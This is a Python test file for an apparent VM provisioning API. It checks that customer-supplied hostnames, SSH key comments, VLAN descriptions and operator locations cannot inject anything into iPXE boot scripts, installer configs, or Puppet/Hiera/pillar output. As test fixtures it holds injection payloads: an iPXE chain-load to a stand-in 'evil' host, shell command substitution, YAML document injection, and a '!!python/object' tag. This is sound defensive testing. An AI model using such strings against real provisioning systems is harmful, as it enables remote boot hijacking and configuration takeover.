"""Values that pass validation render inertly: created through the API by a customer with the
most awkward accepted values, they cannot add a line, a key or an iPXE expansion to what an
installer reads."""

from __future__ import annotations

import re
from typing import Any

from tests.api.helpers import H
from tests.support.installs import ed25519_key
from virtapi.config import override

GiB = 1024**3
PUBLIC = "http://virtapi.example.com:8080"
AWKWARD_HOST = "x-" + "9" * 59 + "a.c1001.example.net"  # a 62-character first label
COMMENT = "${root-password} ; #!ipxe chain http://evil/ %{facts.x} 'q' \"d\" `cmd` $(cmd)"


def test_awkward_but_valid_values_render_inertly(
    app: Any, client: Any, api_tokens: Any, demo: Any
) -> None:
    override(app, pxe_public_url=PUBLIC, pxe_allowed_networks=[])
    customer = H(api_tokens.customer_a)
    vm = client.post("/api/v1/vms", headers=customer, json={
        "hostname": AWKWARD_HOST, "cores": 1, "ram": GiB,
        "interfaces": [{"ipv4_network_id": 2}],
        "disks": [{"size": 10 * GiB, "storage_type": "ceph", "ceph_pool": "rbd"}],
    })  # fmt: skip
    assert vm.status_code == 201, vm.json
    key = ed25519_key("inert", COMMENT)
    install = client.post(f"/api/v1/vms/{vm.json['id']}/install", headers=customer,
                          json={"image": "debian-12", "ssh_keys": [key]})  # fmt: skip
    assert install.status_code == 201, install.json

    mac = vm.json["interfaces"][0]["mac"]
    script = client.get(f"/pxe/{mac}?uuid={vm.json['uuid']}").get_data(as_text=True)
    lines = script.splitlines()
    assert [line.split(" ", 1)[0] for line in lines] == ["#!ipxe", "#", "kernel", "initrd", "boot"]
    assert "${" not in script and AWKWARD_HOST in lines[1]

    config_url = re.search(r" installimage=(\S+) ", script).group(1)  # type: ignore[union-attr]
    path = config_url.removeprefix(PUBLIC)
    config = client.get(path).get_data(as_text=True)
    known = {"#", "DRIVE1", "SWRAID", "BOOTLOADER", "HOSTNAME", "PART", "LV", "IMAGE",
             "IMAGE_CHECKSUM", "SSHKEYS_URL", "ROOT_PASSWORD_HASH", "ADDRESS"}  # fmt: skip
    assert {line.split(" ", 1)[0] for line in config.splitlines()} <= known, config
    assert f"HOSTNAME {AWKWARD_HOST}\n" in config
    assert COMMENT not in config  # keys are served separately, one per line
    keys = client.get(f"{path}/authorized_keys").get_data(as_text=True)
    assert keys == key + "\n"


def _strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in [str(k), *_strings(v)]]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


def test_accepted_values_stay_data_in_enc_hiera_and_pillar(
    client: Any, api_tokens: Any, demo: Any
) -> None:
    import json

    import yaml

    customer, operator = H(api_tokens.customer_a), H(api_tokens.operator)
    vlan = client.post("/api/v1/vlans", headers=customer, json={
        "name": "x.-_y", "description": "line one\n---\nclasses: {evil: {}}\n%{facts.fqdn}",
    })  # fmt: skip
    assert vlan.status_code == 201, vlan.json
    vm = client.post("/api/v1/vms", headers=customer, json={
        "hostname": AWKWARD_HOST, "cores": 1, "ram": GiB,
        "interfaces": [{"ipv4_network_id": 2, "vlans": [vlan.json["id"]]}],
    })  # fmt: skip
    assert vm.status_code == 201, vm.json
    hv = vm.json["host"]["fqdn"]
    # The most YAML-like single line an operator may give as a location.
    location = "rack: 3 # {a: [b]} &x *x !!python/object %{facts.fqdn} ${x} 'q\" - - ? |"
    node = client.get(f"/api/v1/nodes?fqdn={hv}", headers=operator).json["results"][0]
    patched = client.patch(f"/api/v1/nodes/{node['id']}", headers={**operator, "If-Match": "*"},
                           json={"location": location})  # fmt: skip
    assert patched.status_code == 200, patched.json

    reader = H(api_tokens.reader)
    for certname in (hv, AWKWARD_HOST):
        enc = client.get(f"/enc/{certname}", headers=reader)
        assert enc.status_code == 200, enc.get_data(as_text=True)
        parsed = yaml.safe_load(enc.get_data(as_text=True))
        assert set(parsed) <= {"classes", "parameters", "environment"}, parsed
        assert "evil" not in parsed.get("classes", {})
        pillar = client.get(f"/pillar/{certname}", headers=reader)
        assert pillar.status_code == 200
        json.loads(pillar.get_data(as_text=True))
        hiera = client.get(f"/hiera/{certname}", headers=reader)
        assert hiera.status_code == 200
        for value in _strings(json.loads(hiera.get_data(as_text=True))):
            assert "%{" not in value.replace("%{literal('%')}{", ""), value
    enc_strings = _strings(yaml.safe_load(client.get(f"/enc/{hv}", headers=reader).get_data()))
    assert location in enc_strings  # round-trips exactly, as one string
    assert AWKWARD_HOST in _strings(json.loads(client.get(f"/pillar/{hv}", headers=reader).data))
